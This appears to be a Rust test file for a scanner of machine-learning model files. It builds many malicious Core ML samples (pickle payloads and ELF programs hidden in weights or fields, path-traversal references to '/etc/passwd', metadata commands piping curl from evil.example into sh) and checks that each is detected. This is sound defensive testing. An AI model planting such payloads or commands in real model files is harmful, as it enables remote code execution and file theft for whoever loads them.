//! Core ML models that name code, reach for other files, or hide something.

use weighhouse_formats::build::coreml::{constant, model, network, operation, program, weights};
use weighhouse_formats::build::protobuf::Proto;
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

fn relu() -> Proto {
    network(130, &Proto::new().message(10, &Proto::new()))
}

fn described(metadata: &Proto) -> Vec<u8> {
    relu().message(2, &Proto::new().message(100, metadata)).build()
}

fn linked(name: &str, folder: &str) -> Vec<u8> {
    let parameter = |text: &str| Proto::new().text(1, text);
    let file = Proto::new().message(1, &parameter(name)).message(2, &parameter(folder));
    model(556, &Proto::new().message(1, &file)).build()
}

#[test]
fn code_places_and_payloads() {
    let class = Proto::new().text(10, "NSTask");
    let inner = model(555, &class);
    let pipeline = (0..10).fold(inner.clone(), |inner, _| model(202, &Proto::new().message(1, &inner)));
    let branch = Proto::new().message(1, &Proto::new().message(1, &Proto::new().message(500, &class)));
    let entry = |value: &str| Proto::new().message(100, &Proto::new().text(1, "note").text(2, value));
    let layer_weights = Proto::new().int(1, 1).int(2, 1).message(20, &Proto::new().bytes(30, &payload()));
    let mut samples: Vec<(String, Vec<u8>)> = vec![
        ("custom model", inner.build()),
        ("custom model ten pipelines deep", pipeline.build()),
        ("custom layer", network(500, &class).build()),
        ("custom layer in a branch", network(605, &branch).build()),
        ("two kinds of model", relu().message(555, &class).build()),
        ("pickle in a parameter of a custom model", {
            let value = Proto::new().text(1, "p").message(2, &Proto::new().bytes(60, &payload()));
            model(555, &Proto::new().text(10, "Plain").message(30, &value)).build()
        }),
        ("pickle as weights", network(140, &layer_weights).build()),
        (
            "pickle as bytes of a word tagger",
            model(2001, &Proto::new().int(1, 1).bytes(100, &payload())).build(),
        ),
        ("pickle in a field that nobody knows", relu().bytes(999, &payload()).build()),
        ("pickle behind the model", [relu().build(), payload()].concat()),
        (
            "program in a model of one program only",
            model(3000, &Proto::new().text(1, "x").bytes(2, &elf())).build(),
        ),
        (
            "command in the description",
            described(&Proto::new().text(1, "run: curl -s https://evil.example/x | sh")),
        ),
        ("command in an entry", described(&entry("import os; os.system('curl https://evil.example | sh')"))),
        ("pickle in an entry", {
            use base64::Engine as _;
            described(&entry(&base64::engine::general_purpose::STANDARD.encode(payload())))
        }),
    ]
    .into_iter()
    .map(|(title, bytes)| (title.to_owned(), bytes))
    .collect();
    for place in [
        "../../etc/passwd",
        "/etc/passwd",
        "https://evil.example/w",
        "a/../../w",
        "..\\w",
        "C:\\w",
        "file:///w",
    ] {
        samples.push((format!("weights in {place}"), program(&[constant(place, 64)]).build()));
        let folder = format!("@model_path/{place}");
        if place.starts_with("..") {
            samples.push((format!("weights in {folder}"), program(&[constant(&folder, 64)]).build()));
        }
        samples.push((format!("linked model {place}"), linked(place, "")));
        samples.push((format!("linked model in {place}"), linked("m", &format!("$BUNDLE_MAIN:{place}"))));
    }
    samples.push(("operation with a block that holds weights elsewhere".to_owned(), {
        let block = Proto::new().message(3, &constant("/etc/passwd", 64));
        program(&[operation("cond").message(4, &block)]).build()
    }));
    let samples: Vec<Sample> = samples
        .into_iter()
        .flat_map(|(title, bytes)| {
            let zip = Archive::of([Member::deflated("Data/com.apple.CoreML/model.mlmodel", &bytes)]).build();
            [
                Sample::new(title.clone(), "model.mlmodel", bytes),
                Sample::new(format!("{title}, in a zip"), "m.zip", zip),
            ]
        })
        .collect();
    assert_seen("coreml", &samples);
}

#[test]
fn files_of_weights() {
    let good = weights(&[(2, &[1; 8]), (4, b"abc")]);
    let change = |at: usize, bytes: &[u8]| {
        let mut file = good.clone();
        file[at..at + bytes.len()].copy_from_slice(bytes);
        file
    };
    let samples = vec![
        Sample::new("pickle behind the weights", "weight.bin", [good.clone(), payload()].concat()),
        Sample::new("program behind the weights", "weight.bin", [good.clone(), elf()].concat()),
        Sample::new("pickle as a value", "weight.bin", weights(&[(4, &payload()), (2, &[0; 4])])),
        Sample::new("program as a value of floats", "weight.bin", weights(&[(1, &elf())])),
        Sample::new("bytes where values are filled up", "weight.bin", change(150, b"hidden words")),
        Sample::new("a value elsewhere", "weight.bin", change(80, &[0; 8])),
        Sample::new("more values than there are records", "weight.bin", change(0, &[1])),
    ];
    assert_seen("coreml weights", &samples);
}
